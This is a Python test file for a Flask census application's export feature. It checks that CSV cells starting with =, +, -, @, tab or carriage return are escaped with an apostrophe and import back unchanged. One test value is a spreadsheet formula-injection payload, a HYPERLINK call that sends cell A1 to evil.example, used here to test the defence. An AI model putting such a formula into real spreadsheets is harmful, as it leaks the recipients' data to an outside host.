"""The census exports: a CSV opened in Excel runs no formula (cells beginning with =, +, -, @, a tab or a
carriage return get a leading apostrophe) and imports back to the very same values; `flask components
export --raw` writes them as they are; an Excel export longer than EXPORT_INLINE_ROWS is written in the
background like the case list."""

import csv
import io
import re

import openpyxl
import pytest

from core.components import export as component_export
from core.components.models import Component
from core.db import db
from tests.component_support import build_census_city, imported, run
from tests.support import client_for, finish

TYPED = {
    "name": '=HYPERLINK("http://evil.example/?"&A1,"点击")',
    "address": "+86 人民路",
    "note": "-1+1",
    "supervising_department": "@SUM(A1)",
    "owning_department": "'=already quoted",
    "source": "'plain apostrophe",
}


@pytest.fixture
def make_app(english_xiuhua_app):
    return english_xiuhua_app


@pytest.fixture
def city(app):
    return build_census_city()


def cells(data: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))


@pytest.mark.parametrize(
    ("value", "written"),
    [
        ("=1+1", "'=1+1"),
        ("+1", "'+1"),
        ("-1", "'-1"),
        ("@A1", "'@A1"),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        ("'=x", "''=x"),
        ("''-x", "'''-x"),
        ("'x", "'x"),
        ("x=1", "x=1"),
        ("", ""),
    ],
)
def test_neutralise_and_restore_are_one_to_one(value, written):
    assert component_export.neutralise(value) == written
    assert component_export.restore(written) == value


def test_the_csv_neutralises_formulas_and_imports_back_unchanged(app, city):
    imported(app, city)
    with db.connection_context():
        Component.update(**TYPED).where(Component.code == "4306020101000001").execute()
    data = client_for(app, "collector").get("/components/export.csv").data
    header, first = cells(data)[:2]
    by_column = dict(zip(header, first, strict=True))
    assert by_column["部件名称"] == "'" + TYPED["name"]
    assert by_column["地址"] == "'+86 人民路" and by_column["备注"] == "'-1+1"
    assert by_column["主管部门"] == "'@SUM(A1)" and by_column["权属单位"] == "''=already quoted"
    assert by_column["数据来源"] == "'plain apostrophe"  # no formula after it: left alone
    assert not any(cell[:1] in "=+-@\t\r" and cell for row in cells(data) for cell in row)
    assert run(app, data).counts == {"created": 0, "updated": 0, "status_changed": 0, "unchanged": 2}
    with db.connection_context():
        component = Component.get(Component.code == "4306020101000001")
        assert {name: getattr(component, name) for name in TYPED} == TYPED


def test_the_command_line_writes_the_raw_file_on_request(app, city, tmp_path):
    imported(app, city)
    with db.connection_context():
        Component.update(name="=1+1").where(Component.code == "4306020101000001").execute()
    cli = app.test_cli_runner()
    for flag, expected in (([], "'=1+1"), (["--raw"], "=1+1")):
        target = tmp_path / f"census{len(flag)}.csv"
        result = cli.invoke(args=["components", "export", *flag, str(target)])
        assert result.exit_code == 0, result.output
        assert "2 components" in result.output
        assert cells(target.read_bytes())[1][1] == expected
        assert run(app, target.read_bytes()).counts["unchanged"] == 2


def test_a_long_excel_export_is_written_in_the_background(app, city):
    imported(app, city)
    app.config["EXPORT_INLINE_ROWS"] = 1  # the two components are "many"
    client = client_for(app, "collector")
    response = client.get("/components/export.xlsx")
    assert response.status_code == 303 and re.fullmatch(r"/exports/\d+", response.headers["Location"])
    body = finish(client, response.headers["Location"])
    assert "Download (2 rows)" in body
    download = client.get(f"{response.headers['Location']}/download")
    sheet = openpyxl.load_workbook(io.BytesIO(download.data)).active
    assert [sheet["A2"].value, sheet["A3"].value] == ["4306020101000001", "4306020102000002"]
    assert sheet["D3"].value == "Damaged" and sheet["A5"].value.startswith("Coordinates: WGS84")
    filtered = client.get("/components/export.xlsx?status=damaged")  # one row: in the request again
    assert filtered.status_code == 200 and filtered.mimetype.endswith("spreadsheetml.sheet")
